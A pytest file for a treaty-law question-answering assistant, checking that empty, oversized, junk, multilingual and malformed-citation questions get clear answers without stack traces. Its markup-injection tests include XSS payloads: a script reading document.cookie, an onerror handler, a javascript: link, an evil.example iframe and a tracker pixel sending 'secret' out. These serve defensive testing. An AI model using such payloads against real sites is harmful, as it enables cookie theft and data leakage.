"""Bad input: whatever a practitioner (or a stuck keyboard, or a copy-paste from a PDF) types,
the assistant answers with a clear message and never a stack trace.

Each kind of bad input is tried on the real assistant over the real corpus and index, and the
user-facing commands are run as a user runs them, to show exit code and output. Invariants
checked every time: the answer's citations resolve and its quotes are verbatim
(``verify_answer``), and nothing from the question is echoed into the answer as markup.
"""

from __future__ import annotations

import json
import unicodedata

import pytest
from support.reliability import clean_env, run

from assistant.answers.answer import Answer, verify_answer
from assistant.answers.chain import MAX_QUESTION_CHARS
from assistant.settings import PROJECT_ROOT


def holds(answer: Answer, assistant) -> None:
    """Every citation of the answer resolves and every quote is verbatim."""
    assert verify_answer(answer, assistant.corpus) == []


# --- empty, huge, junk -----------------------------------------------------------------------


@pytest.mark.parametrize("question", ["", "   \n\t  ", "\x00\x01\x1b\x7f", "\u200b\u202e\ufeff"])
def test_an_empty_or_invisible_question_asks_for_a_question(assistant, question):
    answer = assistant.ask(question)
    assert answer.abstained and answer.abstain_reason == "empty question"
    assert answer.text.startswith("Please type a question")
    assert answer.citations == [] and answer.quotes == []


def test_a_question_of_100000_characters_is_cut_at_the_documented_limit(assistant):
    question = ("Which measures must States take against bribery of public officials? " * 1500)[
        :100_000
    ]
    answer = assistant.ask(question)
    assert len(answer.question) == MAX_QUESTION_CHARS == 2000
    assert answer.notices[0] == (
        "The question was 100,000 characters long; only the first 2,000 were used."
    )
    assert not answer.abstained and answer.citations
    holds(answer, assistant)
    readme = (PROJECT_ROOT / "README.md").read_text()
    assert f"Questions longer than {MAX_QUESTION_CHARS:,} characters are cut there" in readme


JUNK = [
    bytes(range(256)).decode("latin-1"),  # every byte value, NUL to ÿ
    bytes(range(0, 256, 3)).decode("utf-8", errors="surrogateescape"),  # undecodable bytes
    "\x1b[31m\x1b[2J\x07 bribery \x08\x08 of public officials \ud800 \x0c UNCAC",  # terminal junk
    "Что говорит UNCAC о взяточничестве? 贿赂 رشوة bribery δωροδοκία",  # mixed scripts
    "‮UNCAC‬ art. 1​5 \u2066bribery\u2069",  # bidi overrides and zero-width spaces
]


@pytest.mark.parametrize("question", JUNK, ids=["bytes", "undecodable", "ansi", "scripts", "bidi"])
def test_binary_junk_control_characters_and_mixed_scripts_give_a_verified_answer(
    assistant, question
):
    answer = assistant.ask(question)
    assert all(unicodedata.category(c)[0] != "C" for c in answer.question), answer.question
    holds(answer, assistant)
    json.loads(answer.model_dump_json())  # serialisable as the CLI and the app export it
    assert answer.text.strip()


# --- citation-like strings that parse oddly --------------------------------------------------


@pytest.mark.parametrize(
    ("question", "says"),
    [
        (
            "What does UNCAC art. 0 say?",
            "**UNCAC art. 0**: no such provision (UNCAC has articles 1–71",
        ),
        ("UNCAC art. -3", "**UNCAC art. -3**: no such provision (UNCAC has articles 1–71"),
        ("UNCAC article 1e9", "**UNCAC art. 1e9**: no such provision (UNCAC has articles 1–71"),
        ("Palermo art. 99999", "**UNTOC art. 99999**: no such provision (UNTOC has articles 1–41"),
        ("UNCAC art. 15(zz)", "**UNCAC art. 15(zz)**: no such provision"),
    ],
)
def test_a_citation_no_provision_can_have_is_named_as_such(assistant, question, says):
    answer = assistant.ask(question)
    assert answer.abstained and answer.abstain_reason == "no such provision"
    assert answer.text.startswith(says), answer.text
    assert answer.citations == [] and answer.quotes == []


def test_an_odd_pinpoint_beside_a_good_one_is_named_and_the_good_one_answered(assistant):
    answer = assistant.ask("UNCAC art. 15(zz) and art. 15(a)")
    assert answer.text.startswith("**UNCAC art. 15(zz)**: no such provision")
    assert answer.citations[0].citation == "uncac art. 15(a)"
    holds(answer, assistant)


def test_an_article_number_without_a_document_is_searched_as_words(assistant):
    """'art. 0' names no document, so there is nothing to look up: it is searched like any
    other words, and whatever is cited is real."""
    answer = assistant.ask("art. 0")
    holds(answer, assistant)


# --- markup in the question ------------------------------------------------------------------

INJECTIONS = [
    "<script>alert(document.cookie)</script> What does UNCAC say about bribery?",
    "<img src=x onerror=alert(1)> liability of legal persons under UNCAC",
    "![pixel](http://tracker.example/p.png?q=secret) bribery under UNCAC",
    "[click me](javascript:alert(1)) What does UNTOC say about extradition?",
    "<iframe src=//evil.example></iframe> **bold** _x_ # heading\n---\n| a | b | UNTOC art. 16",
]


@pytest.mark.parametrize("question", INJECTIONS, ids=["script", "img", "md-image", "js", "mixed"])
def test_markup_in_the_question_never_reaches_the_answer_text(assistant, question):
    """The app renders the answer as Markdown: nothing of the question may be in it as markup
    (the question itself is shown with st.text, see tests/ui/test_app.py)."""
    answer = assistant.ask(question)
    for markup in ("<script", "<img", "<iframe", "onerror", "javascript:", "](http", "](//"):
        assert markup not in answer.text
    holds(answer, assistant)


# --- other languages -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "question",
    [
        "La CNUCC oblige-t-elle les États à incriminer la corruption d'agents publics ?",
        "Quelles sont les obligations de la Convention de Budapest sur l'accès illégal ?",
        "¿Obliga la UNCAC a tipificar el soborno de funcionarios públicos nacionales?",
        "¿Qué dice la Convención de Palermo sobre la extradición?",
    ],
)
def test_a_french_or_spanish_question_is_answered_or_declined_in_plain_words(assistant, question):
    """A question in French or Spanish gets either verified citations or a plain statement,
    in its own language, that the corpus does not address it (here, where only the English
    index is built, it also says that the multilingual model is turned off)."""
    answer = assistant.ask(question)
    holds(answer, assistant)
    if answer.abstained:
        assert answer.abstain_reason and "multilingual model" in answer.text
        assert "UNCAC" in answer.text and "Traceback" not in answer.text
    else:
        assert answer.citations


# --- as a user runs it -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("question", "expected"),
    [
        ("", "Please type a question"),
        ("x" * 100_000, "only the first 2,000 were used"),
        ("\x1b[2J\x07 UNCAC art. -3 \u202e", "**UNCAC art. -3**: no such provision"),
    ],
    ids=["empty", "100k", "junk-and-odd-citation"],
)
def test_the_ask_command_answers_bad_input_without_a_traceback(
    indexed_settings, question, expected
):
    env = clean_env(TREATY_DATA_DIR=str(indexed_settings.data_dir))
    shown = run("assistant", "ask", question, env=env)
    assert shown.returncode == 0, shown.stderr
    assert "Traceback" not in shown.stderr
    assert expected in shown.stdout
